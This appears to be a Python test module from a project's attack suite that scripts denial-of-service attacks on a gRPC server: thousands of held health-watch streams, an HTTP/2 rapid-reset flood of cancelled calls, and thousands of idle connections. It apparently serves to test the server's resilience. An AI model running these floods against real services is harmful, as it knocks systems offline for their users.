"""Streams and connections of gRPC that cost the client nothing."""

from __future__ import annotations

from contextlib import ExitStack, closing

from tests.attack.attacker import Attack, Attacker
from tests.attack.http2 import headers, prefixed, reset

WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
CONNECTIONS = 3
STREAMS = 2048
HELD = 10.0
RESETS = 200_000
BURST = 500


class WatchStreams(Attack):
    """Two thousand streams that watch the health over three connections."""

    name = "gRPC watches"

    def play(self, attacker: Attacker) -> None:
        with ExitStack() as stack:
            for _ in range(CONNECTIONS):
                connection = stack.enter_context(closing(attacker.connect_grpc()))
                for _ in range(STREAMS // CONNECTIONS):
                    connection.send(connection.open(WATCH), prefixed(b""))
                attacker.outcomes["opened"] += 1
            attacker.pause(HELD)


class RapidReset(Attack):
    """Calls that are cancelled at once, over one connection."""

    name = "gRPC rapid reset"

    def play(self, attacker: Attacker) -> None:
        with closing(attacker.connect_grpc()) as connection:
            for first in range(1, 2 * RESETS, 2 * BURST):
                streams = range(first, first + 2 * BURST, 2)
                connection.write(b"".join(headers(stream, CHECK) + reset(stream) for stream in streams))
                attacker.outcomes["resets"] += BURST
                attacker.pause(0.01)


class IdleGrpcConnections(Attack):
    """Three thousand connections to the gRPC port; half of them send nothing, half only the preface."""

    name = "idle gRPC connections"

    def play(self, attacker: Attacker) -> None:
        with ExitStack() as stack:
            for number in range(3000):
                if number % 2:
                    attacker.attempt(lambda: stack.enter_context(closing(attacker.connect_grpc())))
                else:
                    attacker.attempt(lambda: stack.enter_context(attacker.raw_grpc()))
                if number % 50 == 0:
                    attacker.pause(0.02)
            attacker.pause(HELD)
